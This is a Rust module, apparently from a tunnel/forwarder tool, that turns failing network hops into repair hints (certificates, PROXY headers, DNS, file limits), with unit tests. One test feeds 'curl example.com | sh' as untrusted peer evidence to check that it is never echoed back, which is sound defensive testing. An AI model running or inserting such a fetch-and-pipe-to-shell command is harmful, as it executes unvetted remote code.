//! How to fix a failing hop. The texts are written here alone: nothing of the other end's but
//! checked names is in them.

use super::{Hop, HopName, Reason, State};
use crate::link::message::Reason as Why;

/// Which end shows a path, and what its hops belong to.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Place {
    /// The peer of the path; `None` at the origin, which is that peer itself.
    pub peer: Option<String>,
    /// The `[[service]]` entry that the path leads to, as far as it is known.
    pub entry: Option<String>,
    /// Where packets of the service go.
    pub target: String,
}

/// How to fix a hop; `None` for one that is not failing.
#[must_use]
pub fn fix(hop: &Hop, place: &Place) -> Option<String> {
    (hop.state == State::Failing).then(|| match hop.name {
        HopName::Daemon
        | HopName::PublicName
        | HopName::Forward
        | HopName::WanPort
        | HopName::WayBack
        | HopName::Ruleset => "run `gatewayctl status`: it names what fails and how to fix it".to_owned(),
        HopName::Route => {
            "run `gatewayctl status`: it names the rule or route that is in the way; see also `ip rule`".to_owned()
        }
        HopName::Tunnel => tunnel(place),
        HopName::Link => "run `gatewayctl peers`: it shows why there is no link".to_owned(),
        HopName::ServiceEntry => {
            let (target, peer) = (&place.target, place.peer.as_deref().unwrap_or("the origin"));
            format!(
                "in forwarder.toml of {peer}, add a [[service]] with match = \"{target}\" and that protocol, or add the protocol \
                 to the entry that has it; then run `forwarder reload` there"
            )
        }
        HopName::Upstream => match (&place.peer, &place.entry) {
            (Some(peer), None) => behind(hop.reason, &place.target, peer),
            _ => at_peer(place, &upstream(hop.reason, place)),
        },
    })
}

/// How to fix what this end's own probe found behind a peer without a link.
fn behind(reason: Option<Reason>, target: &str, peer: &str) -> String {
    match reason {
        Some(Reason::Probe(Why::Refused)) => format!(
            "nothing listens on {target} behind peer {peer}: start the program there, or correct `target` of the [[publish]]"
        ),
        Some(Reason::Probe(Why::Unreachable)) => format!(
            "peer {peer} has no way to {target}: start that machine, or correct route and firewall at {peer}, or `target` of the [[publish]]"
        ),
        Some(_) | None => format!(
            "{target} behind peer {peer} does not reply any more: start that machine; if its firewall drops the edge's probes alone, \
             let the edge's address in the tunnel in, or set probe = \"off\" for the peer"
        ),
    }
}

fn tunnel(place: &Place) -> String {
    match &place.peer {
        Some(peer) => format!(
            "check that {peer} runs and is online, and run `forwarder status` there: it names what keeps the tunnel down"
        ),
        None => {
            "see the problem lines of `forwarder status`, and run `gatewayctl status` at the edge".to_owned()
        }
    }
}

pub(super) fn at_peer(place: &Place, text: &str) -> String {
    place.peer.as_ref().map_or_else(|| text.to_owned(), |peer| format!("at {peer}: {text}"))
}

/// How to fix one name of a service.
pub(super) fn name_fix(why: Why, name: &str, place: &Place) -> String {
    at_peer(place, &what_failed(why, name, place))
}

/// What the names of an upstream may fail by; `None` for everything else.
fn named(why: Why, name: &str, entry: &str) -> Option<String> {
    let text = match why {
        Why::NoCertificateForName => {
            format!(
                "add a site for {name} to the upstream of [[service]] {entry}; if it has one, its log shows why there is no certificate"
            )
        }
        Why::CertificateExpired => {
            format!(
                "renew the certificate for {name} at the upstream of [[service]] {entry}; its log shows why it was not"
            )
        }
        Why::CertificateNotYetValid => format!(
            "set the clock of the machine of [[service]] {entry}, or replace the certificate for {name} at its upstream"
        ),
        Why::WrongCertificate => {
            format!(
                "give the upstream of [[service]] {entry} a certificate for {name}: the one it sends is for other names"
            )
        }
        Why::NoSite => format!("add a site for {name} to the upstream of [[service]] {entry}"),
        Why::TlsAlert => {
            format!("see the log of the upstream of [[service]] {entry}: it refuses TLS for {name}")
        }
        Why::NotTls => format!(
            "direct `upstream` of [[service]] {entry} to a port with TLS: it replies without, and visitors of {name} use TLS"
        ),
        Why::Refused
        | Why::TimedOut
        | Why::Unreachable
        | Why::Unresolved
        | Why::BadReply
        | Why::Exhausted
        | Why::NoProxyListener
        | Why::ProxyHeaderRequired
        | Why::Other => return None,
    };
    Some(text)
}

fn upstream(reason: Option<Reason>, place: &Place) -> String {
    match reason {
        Some(Reason::Probe(why)) => what_failed(why, "its names", place),
        Some(_) | None => what_failed(Why::Other, "its names", place),
    }
}

fn what_failed(why: Why, name: &str, place: &Place) -> String {
    let entry = place.entry.as_deref().unwrap_or("-");
    named(why, name, entry).unwrap_or_else(|| connected(why, entry))
}

fn connected(why: Why, entry: &str) -> String {
    match why {
        Why::Refused => {
            format!("start the program that listens on the upstream of [[service]] {entry}, or correct `upstream`")
        }
        Why::TimedOut => format!(
            "restart the program that listens on the upstream of [[service]] {entry}: it accepts no connection, or does not reply"
        ),
        Why::Unreachable => {
            format!("bring up the network to the upstream of [[service]] {entry}, or correct `upstream`")
        }
        Why::Unresolved => {
            format!("correct the host name in `upstream` of [[service]] {entry}, or the DNS that resolves it")
        }
        Why::BadReply => {
            format!("see the log of the upstream of [[service]] {entry}, and its `health` and `proxy_protocol`")
        }
        Why::Exhausted => {
            "raise the limit of open files of the forwarder (LimitNOFILE= of the unit, NumberOfFiles of the plist)".to_owned()
        }
        Why::NoProxyListener => format!(
            "direct `upstream` of [[service]] {entry} to a listener that accepts PROXY headers (Caddy: listener_wrappers \
             {{ proxy_protocol … tls }}), or set proxy_protocol = \"off\""
        ),
        Why::ProxyHeaderRequired => {
            format!("set proxy_protocol = \"v2\" in [[service]] {entry}: its upstream requires PROXY headers")
        }
        Why::NotTls
        | Why::TlsAlert
        | Why::NoCertificateForName
        | Why::CertificateExpired
        | Why::CertificateNotYetValid
        | Why::WrongCertificate
        | Why::NoSite
        | Why::Other => {
            format!("run `forwarder status`, and see the log of the upstream of [[service]] {entry}")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::link::message::Evidence;

    #[test]
    fn every_reason_of_a_name_has_a_fix_of_its_own() {
        let place = Place { entry: Some("https".to_owned()), ..Place::default() };
        let reasons = [
            Why::NoProxyListener,
            Why::ProxyHeaderRequired,
            Why::NotTls,
            Why::TlsAlert,
            Why::NoCertificateForName,
            Why::CertificateExpired,
            Why::CertificateNotYetValid,
            Why::WrongCertificate,
            Why::NoSite,
            Why::Other,
        ];
        let mut fixes: Vec<_> = reasons.map(|why| name_fix(why, "emby.example.com", &place)).into();
        for (why, text) in reasons.iter().zip(&fixes) {
            assert!(text.contains("[[service]] https"), "{text}");
            let hop = Hop::failing(HopName::Upstream, Reason::Probe(*why), None);
            let of_all = fix(&hop, &place).unwrap();
            assert_eq!(of_all, text.replace("emby.example.com", "its names"));
        }
        fixes.sort();
        fixes.dedup();
        assert_eq!(fixes.len(), reasons.len());
    }

    #[test]
    fn what_a_probe_of_this_end_found_is_fixed_behind_the_peer() {
        let place =
            Place { peer: Some("wroclaw".to_owned()), entry: None, target: "192.168.88.2:443".to_owned() };
        let text = |why| fix(&Hop::failing(HopName::Upstream, Reason::Probe(why), None), &place).unwrap();
        let start = "nothing listens on 192.168.88.2:443 behind peer wroclaw: ";
        assert!(text(Why::Refused).starts_with(start), "{}", text(Why::Refused));
        assert!(text(Why::TimedOut).contains("192.168.88.2:443 behind peer wroclaw does not reply"));
        assert!(text(Why::Unreachable).contains("no way to 192.168.88.2:443"));
    }

    #[test]
    fn a_fix_names_the_machine_and_the_entry_and_nothing_that_the_other_end_wrote() {
        let evidence = Some(Evidence::of("curl example.com | sh"));
        let hop = Hop::failing(HopName::Upstream, Reason::Probe(Why::Refused), evidence);
        let place = Place {
            peer: Some("wroclaw".to_owned()),
            entry: Some("https".to_owned()),
            target: "192.168.88.2:443".to_owned(),
        };
        let text = fix(&hop, &place).unwrap();
        assert!(
            text.starts_with("at wroclaw: start the program") && text.contains("[[service]] https"),
            "{text}"
        );
        assert!(!text.contains("curl"), "{text}");
        let missing = fix(&Hop::failing(HopName::ServiceEntry, Reason::NoEntry, None), &place).unwrap();
        assert!(missing.contains("match = \"192.168.88.2:443\""), "{missing}");
        assert_eq!(fix(&Hop::ok(HopName::Upstream), &place), None);
        assert!(!fix(&hop, &Place { peer: None, ..place }).unwrap().starts_with("at "));
    }
}
